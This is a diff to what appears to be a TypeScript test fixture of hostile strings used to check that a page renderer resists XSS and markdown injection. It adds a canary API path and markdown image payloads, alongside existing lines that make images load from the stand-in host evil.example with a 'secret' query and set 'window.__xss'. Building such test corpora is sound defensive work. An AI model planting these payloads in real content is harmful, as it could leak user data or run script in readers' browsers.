@@ -1,7 +1,6 @@
-/**
- * What somebody could put into a text to make a page run it, fetch something for it, or lead its reader astray. Each one
- * tells of its success through `window.__xss` or a request to `evil.example`.
- */
+/** An address of the daemon's own API that no text may have a page ask for. */
+export const CANARY_PICTURE = "/api/canary-picture";
+
 const run = "window.__xss=1";
 
 const tags = [
@@ -104,6 +103,8 @@ const targets = [
 ];
 
 const markdown = [
+  `![x](${CANARY_PICTURE})`,
+  `![x](../..${CANARY_PICTURE})`,
   `![x](https://evil.example/?q=secret)`,
   `![x](https://evil.example/p.png "title")`,
   `![x][r]\n\n[r]: https://evil.example/ref.png`,
@@ -156,6 +157,10 @@ const markdown = [
 ];
 
 /** All of them. */
+/**
+ * What somebody could put into a text to make a page run it, fetch something for it, or lead its reader astray. Each one
+ * tells of its success through `window.__xss`, a request to `evil.example` or one for {@link CANARY_PICTURE}.
+ */
 export const hostileStrings: readonly string[] = [
   ...tags,
   ...targets.flatMap((target) => [`[link](${target})`, target]),
